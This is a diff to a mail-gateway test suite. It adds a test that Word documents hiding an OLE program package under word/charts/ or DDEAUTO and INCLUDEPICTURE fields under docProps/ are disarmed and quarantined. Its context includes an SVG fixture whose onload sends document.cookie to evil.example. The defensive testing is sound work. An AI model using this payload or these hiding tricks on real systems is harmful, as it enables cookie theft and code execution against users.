@@ -527,6 +527,26 @@ def test_macro_documents_are_cleaned_and_polyglot_office_files_refused(gw: Gatew
                           and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"
 
 
+@pytest.mark.parametrize("shape", ["package-under-word-charts", "fields-in-docprops"])
+def test_office_content_outside_its_usual_folder_is_disarmed(gw: GatewayProcess, raw_sink: RawSink,
+                                                             shape: str) -> None:
+    # Sixth attacker review: an OLE Package with a program in a document
+    # under word/charts/ (taken for a chart's data) and a DDEAUTO field in a
+    # main part under docProps/ (fields were looked for under word/ only)
+    # reached the agent in a .docx Word opens.
+    from tests import active_documents as docs
+    mail = Mail(f"office-{shape}")
+    if shape == "package-under-word-charts":
+        blob, markers = docs.docx_package_in_charts_folder(), [docs.EXE[:64]]
+    else:
+        blob, markers = docs.docx_main_part_in("docProps"), [b"DDEAUTO", b"INCLUDEPICTURE"]
+    qid = fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(DOCX_TYPE, blob, name="claim.docx")]),
+                                                    files=[blob], markers=markers, name="claim.docx"), refused=False)
+    assert quarantined(gw.objects, blob), "the original is kept in quarantine"
+    assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
+                          and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"
+
+
 SVG_BODY = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect/></svg>'
 
 
